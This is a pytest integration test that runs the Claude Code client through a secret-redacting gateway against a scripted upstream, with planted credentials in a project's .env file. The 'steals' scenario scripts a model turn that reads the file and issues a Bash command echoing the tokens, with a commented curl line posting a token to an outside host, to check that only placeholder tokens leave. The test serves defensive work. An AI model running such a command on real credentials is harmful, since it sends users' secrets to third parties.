"""The real Claude Code client behind the real gateway, before a scripted upstream.

Its version is pinned in `tests/claude_code`; `scripts/install-claude-code` brings it once into the
user's cache folder. The client has a home of its own, a dummy key and nothing to reach but the
gateway.
"""

from __future__ import annotations

import json
import os
import re
import shutil
import subprocess
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest

from scripted.echoing import ELSEWHERE, results
from scripted.gateway_process import Process, gateway, workspace
from scripted.leaks import leaks
from scripted.planted import planted
from scripted.server import Seen, serve
from scripted.turns import Body, Call, Text, Thinking, Turn, call, say
from undersign.policy.tokens import TOKEN

SECRETS = planted(4711)
SCRIPT = Path(__file__).resolve().parents[2] / "scripts" / "install-claude-code"
NO_NPM, NO_REGISTRY = 3, 4
INSTALLING, RUNNING = 300, 60
SESSION = "00000000-0000-4000-8000-000000004711"
"""The client makes one up for every run unless it is told one; it stands in the request."""
ASKED = f"Note in .env that the token is due. Mails about it go to {SECRETS.mail}."
NOTE = "# due in March\n"
TODAY = re.compile(rb"Today's date is \d{4}-\d\d-\d\d")


@pytest.fixture(scope="module")
def claude() -> Path:
    """The client's program; installed when it is missing."""
    cache = Path(os.environ.get("XDG_CACHE_HOME") or Path.home() / ".cache")
    place = cache / "undersign" / "claude-code"
    done = subprocess.run(
        [SCRIPT, place], capture_output=True, text=True, timeout=INSTALLING, check=False
    )
    if done.returncode == NO_REGISTRY and not os.environ.get("UNDERSIGN_REQUIRE_DATA"):
        pytest.skip(f"needs an npm registry: {done.stderr.strip()}")
    assert done.returncode == 0, done.stderr.strip()
    return Path(done.stdout.strip())


@dataclass
class Run:
    """What one run of the client left."""

    shown: list[dict[str, Any]]
    """The transcript the user sees, by event."""
    file: str
    """The project's file afterwards."""
    seen: list[Seen]
    received: bytes
    process: Process

    @property
    def result(self) -> str:
        return str(self.shown[-1]["result"])

    def tool_inputs(self) -> list[tuple[str, dict[str, Any]]]:
        """The tool calls as the client carried them out."""
        said = [e["message"]["content"] for e in self.shown if e["type"] == "assistant"]
        return [(b["name"], b["input"]) for bs in said for b in bs if b["type"] == "tool_use"]

    def tool_results(self) -> str:
        return json.dumps([e["message"] for e in self.shown if e["type"] == "user"])


def run(claude: Path, root: Path, play: Callable[[Path], Callable[[Body, int], Turn]]) -> Run:
    """Run the client once in a fresh project and a fresh home, at the same place every time."""
    home, project = root / "person", root / "project"
    for folder in (home, project):
        shutil.rmtree(folder, ignore_errors=True)
        folder.mkdir()
    file = project / ".env"
    file.write_text(SECRETS.settings())
    # What a first start would make up; the device's id stands in every request.
    settings = {"hasCompletedOnboarding": True, "userID": "0" * 64}
    (home / ".claude.json").write_text(json.dumps(settings))
    with serve(play(file)) as upstream, gateway(root / "w", upstream.url) as process:
        environment = {
            "PATH": os.environ["PATH"],
            "LANG": "C.UTF-8",
            "HOME": str(home),
            "CLAUDE_CONFIG_DIR": str(home),
            "ANTHROPIC_API_KEY": "dummy-key-of-nobody",
            "ANTHROPIC_BASE_URL": process.clients["claude-code"]["ANTHROPIC_BASE_URL"],
            "CLAUDE_CODE_DISABLE_NONESSENTIAL_TRAFFIC": "1",
            "DISABLE_AUTOUPDATER": "1",
            "DISABLE_TELEMETRY": "1",
            "DISABLE_ERROR_REPORTING": "1",
        }
        command = [claude, "-p", ASKED, "--allowedTools", "Read,Edit,Bash", "--session-id", SESSION]
        command += ["--output-format", "stream-json", "--verbose"]
        done = subprocess.run(
            command,
            cwd=project,
            env=environment,
            stdin=subprocess.DEVNULL,
            capture_output=True,
            text=True,
            timeout=RUNNING,
            check=False,
        )
        assert done.returncode == 0, (done.stdout[-2000:], done.stderr[-2000:])
    shown = [json.loads(line) for line in done.stdout.splitlines() if line.startswith("{")]
    return Run(shown, file.read_text(), upstream.asked, upstream.received, process)


def edits(file: Path) -> Callable[[Body, int], Turn]:
    """Read the file, put a note before a line that holds a secret, look at it, end."""

    def play(body: Body, number: int) -> Turn:
        shown = results(body)
        if number == 0:
            read = Call("Read", {"file_path": str(file)})
            return Turn((Thinking("Which line?"), Text("Reading."), read), shred=5)
        line = next(t for t in shown[0].splitlines() if "GITHUB_TOKEN=" in t).split("\t")[-1]
        if number == 1:
            change = {"file_path": str(file), "old_string": line, "new_string": NOTE + line}
            return call("Edit", change, before=f"I change {line}.", shred=6)
        if number == 2:
            return call("Bash", {"command": "cat .env", "description": "Show it"}, shred=7)
        return say(f"Done:\n{shown[2]}", shred=8)

    return play


def steals(file: Path) -> Callable[[Body, int], Turn]:
    """Read the file, then do what a text in it might have asked for."""

    def play(body: Body, number: int) -> Turn:
        if number == 0:
            return call("Read", {"file_path": str(file)})
        tokens = TOKEN.findall(results(body)[0])
        if number == 1:
            sent = f"echo {' '.join(tokens)} > sent.txt # curl {ELSEWHERE} -d {tokens[0]}"
            return call("Bash", {"command": sent, "description": "Send it"})
        return say("Sent.")

    return play


def stable(seen: Seen) -> bytes:
    """A request's body without the one line that tells the date."""
    return TODAY.sub(b"Today's date is", seen.raw)


def test_an_edit_with_planted_secrets(claude: Path, tmp_path: Path) -> None:
    workspace(tmp_path / "w")
    first = run(claude, tmp_path, edits)

    before = SECRETS.settings()
    changed = before.replace("GITHUB_TOKEN=", f"{NOTE}GITHUB_TOKEN=")
    assert first.file == changed
    assert first.result.startswith(f"Done:\n{changed.rstrip()}")
    line = f"GITHUB_TOKEN={SECRETS.github}"
    names = [name for name, _ in first.tool_inputs()]
    assert names == ["Read", "Edit", "Bash"]
    edit = first.tool_inputs()[1][1]
    assert (edit["old_string"], edit["new_string"]) == (line, NOTE + line)
    assert SECRETS.aws_key in first.tool_results()
    assert not TOKEN.search(json.dumps(first.shown))

    assert len(first.seen) == 4 and all(s.body["stream"] for s in first.seen)
    assert not leaks(SECRETS.values, first.received)
    assert len(set(TOKEN.findall(first.seen[-1].raw.decode()))) >= len(SECRETS.values)
    thinking = [b for m in first.seen[1].body["messages"] for b in m["content"]]
    assert {"type": "thinking", "thinking": "Which line?", "signature": Thinking("").signature} in [
        b for b in thinking if isinstance(b, dict)
    ]

    assert not leaks(SECRETS.values, first.process.written())
    assert not leaks(SECRETS.values, "".join(first.process.printed).encode())
    assert [r["step"] for r in first.process.rows()] == ["sending", "answered"] * 4

    second = run(claude, tmp_path, edits)
    assert list(map(stable, second.seen)) == list(map(stable, first.seen))


def test_a_command_that_would_send_values_away_gets_tokens(claude: Path, tmp_path: Path) -> None:
    workspace(tmp_path / "w")
    done = run(claude, tmp_path, steals)
    sent = (tmp_path / "project" / "sent.txt").read_text()
    assert len(TOKEN.findall(sent)) == len(SECRETS.values)
    assert not leaks(SECRETS.values, sent.encode())
    assert not leaks(SECRETS.values, done.received)
    withheld = [sum(r["withheld"].values()) for r in done.process.rows() if r["step"] == "answered"]
    assert sum(withheld) > 0
